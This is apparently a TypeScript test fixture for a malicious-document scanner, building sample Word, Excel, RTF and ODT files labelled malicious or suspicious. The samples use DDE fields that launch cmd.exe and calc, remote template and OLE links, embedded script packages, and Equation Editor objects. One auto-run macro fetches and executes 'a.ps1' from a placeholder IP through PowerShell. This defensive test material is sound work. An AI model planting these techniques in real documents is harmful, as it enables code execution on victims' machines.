// Documents that fetch templates, link to objects, or carry scripts and programs.
import { writeCompoundFile } from '../../write-compound-file.ts'
import { excelWorkbook, field, paragraph, relations, wordBinary, wordDocument } from '../../write-office.ts'
import { ole10Native, oleObject, packagedFile, richObject, richText } from '../../write-rich-text.ts'
import { writeZip } from '../../write-zip.ts'
import type { Suspect } from '../suspect.ts'
import { bad, file, program, runsCalc } from './document.ts'

export const links: readonly Suspect[] = [
  file(
    'dde.docx',
    'malicious',
    ['office_dde_runs_program'],
    wordDocument(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
  ),
  file(
    'dde-split.docx',
    'malicious',
    ['office_dde_runs_program'],
    wordDocument(
      field(
        ' DD',
        'EAUTO ',
        'c:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\',
        'cmd.exe',
        ' "/c calc"',
      ),
    ),
  ),
  file(
    'dde.xlsx',
    'malicious',
    ['office_dde_runs_program'],
    excelWorkbook({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>',
    }),
  ),
  file(
    'dde.doc',
    'malicious',
    ['office_dde_runs_program'],
    wordBinary('x \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14 e \x15'),
  ),
  file(
    'template.docx',
    'suspicious',
    ['office_template_is_remote'],
    wordDocument(paragraph('x'), {
      'word/_rels/settings.xml.rels': relations([
        { type: 'attachedTemplate', target: `${bad}/t.dotm`, external: true },
      ]),
    }),
  ),
  file(
    'object.docx',
    'suspicious',
    ['office_object_is_remote'],
    wordDocument(paragraph('x'), {
      'word/_rels/document.xml.rels': relations([{ type: 'oleObject', target: `${bad}/o.rtf`, external: true }]),
    }),
  ),
  file(
    'handler.docx',
    'malicious',
    ['office_link_exploits_handler'],
    wordDocument(paragraph('x'), {
      'word/_rels/document.xml.rels': relations([
        { type: 'oleObject', target: 'https://files.test/RDF8421.html!', external: true },
      ]),
    }),
  ),
  file(
    'mhtml.docx',
    'malicious',
    ['office_link_exploits_handler'],
    wordDocument(paragraph('x'), {
      'word/_rels/document.xml.rels': relations([
        { type: 'oleObject', target: 'mhtml:http://files.test/s.html!x-usc:http://files.test/s.html', external: true },
      ]),
    }),
  ),
  file(
    'unc.docx',
    'suspicious',
    ['office_links_file_share'],
    wordDocument(paragraph('x'), {
      'word/_rels/settings.xml.rels': relations([
        { type: 'attachedTemplate', target: 'file://203.0.113.7/s/t.dotx', external: true },
      ]),
    }),
  ),
  file(
    'frame.docx',
    'suspicious',
    ['office_object_is_remote'],
    wordDocument(paragraph('x'), {
      'word/_rels/webSettings.xml.rels': relations([{ type: 'frame', target: `${bad}/f.doc`, external: true }]),
    }),
  ),
  file(
    'package.docx',
    'malicious',
    ['office_embeds_program'],
    wordDocument(paragraph('x'), {
      'word/embeddings/oleObject1.bin': writeCompoundFile(
        [{ name: '\x01Ole10Native', bytes: ole10Native('invoice.js', Buffer.from(runsCalc)) }],
        '0003000c-0000-0000-c000-000000000046',
      ),
    }),
  ),
  file(
    'program.xlsx',
    'malicious',
    ['office_embeds_program'],
    excelWorkbook({
      'xl/embeddings/oleObject1.bin': writeCompoundFile([
        { name: '\x01Ole10Native', bytes: ole10Native('setup.exe', program) },
      ]),
    }),
  ),
  file(
    'package.doc',
    'malicious',
    ['office_embeds_program'],
    wordBinary('x', null, [
      {
        name: 'ObjectPool',
        children: [
          {
            name: '_1',
            clsid: '0003000c-0000-0000-c000-000000000046',
            children: [
              { name: '\x01Ole10Native', bytes: ole10Native('a.bat', Buffer.from('@echo off\r\nstart calc\r\n')) },
            ],
          },
        ],
      },
    ]),
  ),
  file(
    'equation.rtf',
    'malicious',
    ['office_equation_object', 'rtf_object_loads_by_itself'],
    richText(richObject(oleObject('Equation.3', Buffer.alloc(900, 0x41)), { update: true, brokenUp: true })),
  ),
  file(
    'package.rtf',
    'malicious',
    ['office_embeds_program'],
    richText(richObject(oleObject('Package', packagedFile('a.js', Buffer.from(runsCalc))))),
  ),
  file('template.rtf', 'suspicious', ['office_template_is_remote'], richText(`{\\*\\template ${bad}/t.dotm}`)),
  file(
    'short.rtf',
    'malicious',
    ['rtf_header_is_odd', 'office_equation_object'],
    richText(richObject(oleObject('eQuatIon.3', Buffer.alloc(900, 0x42)), { update: true }), '{\\rt'),
  ),
  file(
    'macro.odt',
    'suspicious',
    ['office_script_runs_by_event'],
    writeZip({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'META-INF/manifest.xml': '<manifest/>',
      'content.xml':
        '<office:document-content><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:document-content>',
      'Basic/Standard/M.xml':
        '<script:module>Sub Main\nShell("cmd /c powershell -w hidden iwr http://203.0.113.7/a.ps1 | iex")\nEnd Sub</script:module>',
    }),
  ),
]
